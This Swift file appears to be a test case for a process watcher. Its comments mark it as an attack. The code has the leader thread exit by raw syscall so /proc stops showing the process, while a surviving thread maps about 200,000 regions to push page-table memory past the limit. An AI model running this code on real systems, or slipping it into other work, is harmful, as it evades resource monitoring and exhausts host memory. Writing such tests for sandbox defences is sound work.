// Attack: a process whose first thread has ended
// Tries: to use more than the limit in tables of addresses then, when /proc shows nothing of the process
// Must: the watcher looks at the threads that go on
import Glibc

@_silgen_name("syscall") func callOfLeader(_ number: Int, _ code: Int) -> Int

func attack(_ X: Tensor) throws {
  var thread = pthread_t()
  pthread_create(
    &thread, nil,
    { _ in
      let step = 2 << 20, tables = 200_000
      let memory = mmap(nil, tables * step, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | 0x4000, -1, 0)
      guard let memory, memory != MAP_FAILED else { return nil }
      madvise(memory, tables * step, 15)
      var sum = 0
      for table in 0..<tables {
        sum += Int(memory.load(fromByteOffset: table * step, as: UInt8.self))
      }
      usleep(500_000)
      print("LOOT \(tables >> 8) MiB in tables of addresses", sum)
      fflush(nil)
      while true { usleep(100_000) }
    }, nil)
  // exit of one thread: x86-64's number, then arm64's
  _ = callOfLeader(60, 0)
  _ = callOfLeader(93, 0)
}
